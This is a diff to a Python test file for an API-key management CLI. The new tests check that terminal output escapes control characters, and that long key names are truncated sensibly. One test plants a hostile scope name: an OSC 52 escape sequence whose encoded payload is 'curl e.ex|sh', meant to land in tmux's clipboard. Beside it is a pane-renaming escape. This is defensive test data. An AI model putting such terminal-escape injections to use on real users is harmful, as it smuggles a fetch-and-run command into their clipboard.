@@ -7,16 +7,20 @@ import io
 import json
 import re
 import sys
+import unicodedata
 from contextlib import closing
 from datetime import timedelta
 from pathlib import Path
 
 import pytest
+from sqlalchemy import text
 
 from apikey_tui.cli import build_parser, main
 from apikey_tui.clock import system_clock
 from apikey_tui.command_help import subcommands
+from apikey_tui.db.models import MINUTE, USAGE_ALLOWED, USAGE_FORBIDDEN, usage_minute
 from apikey_tui.store import KeyStore
+from apikey_tui.store.credentials import credential_source
 from tests.conftest import ACTOR, CHEAP, FakeClock
 
 SGR = re.compile(r"\x1b\[[0-9;]*m")
@@ -62,7 +66,7 @@ def test_list_in_a_terminal_fits_its_width_and_keeps_both_ends_of_names(
     lines = SGR.sub("", out.getvalue()).splitlines()
     assert len(lines) == 4 and all(len(line) <= 80 for line in lines), lines
     names = [line.split()[0] for line in lines[1:]]
-    assert len(set(names)) == 3 and any(n.endswith("-eu-west-2") for n in names), names
+    assert len(set(names)) == 3 and any(n.endswith("eu-west-2") for n in names), names
     assert any("…" in n and n.startswith("production") for n in names)
 
 
@@ -270,3 +274,73 @@ def test_changes_say_what_they_did_in_one_wording(
     run(keys_url, "keys", "show", "ci")
     shown = capsys.readouterr().out
     assert "2099-01-31 00:00:00 UTC" in shown and not re.search(r"\d\dZ\b", shown)
+
+
+# OSC 52 puts 'curl e.ex|sh' into tmux's clipboard; OSC 2 renames the pane.
+HOSTILE_SCOPE = "\x1b]52;c;Y3VybCBlLmV4fHNo\x07x"
+HOSTILE_USE = "\x1b]2;pwned\x07"
+
+
+@pytest.mark.time_dependent
+def test_usage_and_rightsize_escape_every_text_they_print(
+    sqlite_url: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """`keys usage` and `keys rightsize` in a terminal print a hostile scope name (in the key,
+    in the usage rows and in a proposal) and public id escaped, never a raw control character."""
+    past = FakeClock(system_clock() - timedelta(days=40))
+    with closing(KeyStore.open(sqlite_url, hasher=CHEAP, actor=ACTOR, clock=past)) as store:
+        store.create_key("alice", "svc", ["project"])
+        public_id = "ak\x1b]2;id\x07"
+        with store.engine.begin() as conn:  # rows an older version or a hand edit could leave
+            conn.execute(
+                text("INSERT INTO apikey_tui_scope (name, description) VALUES (:n, '')"),
+                {"n": HOSTILE_SCOPE},
+            )
+            key_id = conn.execute(text("SELECT id FROM apikey_tui_key")).scalar_one()
+            conn.execute(
+                text("INSERT INTO apikey_tui_key_scope (key_id, scope) VALUES (:k, :s)"),
+                {"k": key_id, "s": HOSTILE_SCOPE},
+            )
+            conn.execute(text("UPDATE apikey_tui_key SET public_id = :p"), {"p": public_id})
+        now = usage_minute(system_clock())
+        source = credential_source(store.engine)
+        source.record_usage(
+            [
+                (public_id, now - 60, MINUTE, USAGE_ALLOWED, "project", 5),
+                (public_id, now - 60, MINUTE, USAGE_ALLOWED, HOSTILE_USE, 2),
+                (public_id, now - 60, MINUTE, USAGE_FORBIDDEN, HOSTILE_USE, 3),
+            ]
+        )
+        source.close()
+    out, _ = _terminal(monkeypatch)
+    assert run(sqlite_url, "keys", "usage", "svc") == 0
+    assert run(sqlite_url, "keys", "rightsize") == 0
+    printed = out.getvalue()
+    assert "drop \\x1b]52;c;" in printed and "\\x1b]2;pwned\\x07" in printed, printed
+    raw = [ch for ch in printed if ch != "\n" and unicodedata.category(ch).startswith("C")]
+    assert raw == [], printed
+
+
+EU = "production-infrastructure-eu-west-2-primary-cluster"
+US = "production-infrastructure-us-east-1-primary-cluster"
+
+
+@pytest.mark.parametrize("columns", ["70", "80", "120"])
+@pytest.mark.parametrize("every_owner", [False, True])
+def test_list_shows_where_names_differ_in_the_middle_and_scopes_fairly(
+    sqlite_url: str, monkeypatch: pytest.MonkeyPatch, columns: str, every_owner: bool
+) -> None:
+    """`keys list` at 70, 80 and 120 columns shows '…eu-west…' and '…us-east…' for two names
+    that differ only in the middle, and a short-named key's scopes whole beside them."""
+    with closing(KeyStore.open(sqlite_url, hasher=CHEAP, actor=ACTOR)) as store:
+        for name in (EU, US, "ci"):
+            store.create_key("alice", name, ["project", "serving"])
+    monkeypatch.setenv("COLUMNS", columns)
+    out, _ = _terminal(monkeypatch)
+    assert run(sqlite_url, "keys", "list", *(["--all"] if every_owner else [])) == 0
+    lines = SGR.sub("", out.getvalue()).splitlines()
+    assert all(len(line) <= int(columns) for line in lines), lines
+    assert any("eu-west" in x for x in lines) and any("us-east" in x for x in lines), lines
+    if columns != "70":  # at 70 the scopes column is dropped whole, never cut to nothing
+        ci = next(line for line in lines if " ci " in f" {line} ")
+        assert "project,serving" in ci, lines
